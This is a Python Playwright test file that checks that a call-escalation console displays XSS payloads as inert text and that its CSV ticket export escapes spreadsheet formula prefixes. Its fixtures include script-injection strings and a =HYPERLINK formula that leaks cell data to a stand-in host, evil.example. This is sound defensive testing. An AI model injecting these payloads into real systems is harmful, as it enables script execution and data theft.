"""Caller- and agent-controlled text in the real console, in a real Chromium: shown as text,
never run; the CSV export's cells are inert in a spreadsheet."""

from __future__ import annotations

import csv
import io
import shutil

import pytest

from escalation.context import build_context
from tests.escalation.test_console_browser import CHROMIUM, CHROMIUM_ARGS

from .conftest import PASSWORD

pytestmark = pytest.mark.slow

XSS = '<img src=x onerror="window.__xss=1">'
SCRIPT = "<script>window.__xss=2</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_payloads_are_text_in_the_console_and_inert_in_the_export(bot) -> None:
    from playwright.async_api import async_playwright

    if not shutil.which(CHROMIUM):
        pytest.fail(f"{CHROMIUM} is missing: apt-get install -y chromium")
    services = bot.services
    # What a call hands over: the caller id from Twilio's From, the transcript, the ticket.
    await services.enqueue(build_context(
        "call-xss", XSS, "twilio", "caller_request", "normal", "check_balance", 0.9, {"name": SCRIPT},
        [("bot", "Hello, how can I help?"), ("caller", XSS + SCRIPT)]))
    await services.create_ticket({"category": "fees", "description": FORMULA + " " + XSS,
                                  "account_reference": "+1+1", "reference": "@SUM(1)"})
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = await browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: dialogs.append(d.message))
        await page.goto(bot.url + "/console")
        await page.fill("#username", "sam")
        await page.fill("#password", PASSWORD)
        await page.click("#login-form button[type=submit]")
        entry = await page.wait_for_selector('.entry[data-call-id="call-xss"]', timeout=10000)
        assert XSS in await entry.inner_text()  # shown as the text it is
        await page.click(".tab[data-tab=tickets]")
        row = await page.wait_for_selector("#tickets-table tbody tr")
        assert FORMULA in await row.inner_text()
        await page.wait_for_timeout(500)
        assert await page.evaluate("window.__xss") is None, "a payload ran"
        assert await page.query_selector("img[src=x]") is None
        assert not dialogs
        exported = await page.evaluate(
            "fetch('/api/tickets.csv', {credentials: 'same-origin'}).then(r => r.text())")
        await browser.close()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows, exported
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@"), (value, exported)
    assert any(v.startswith("'=HYPERLINK") for r in rows for v in r.values())
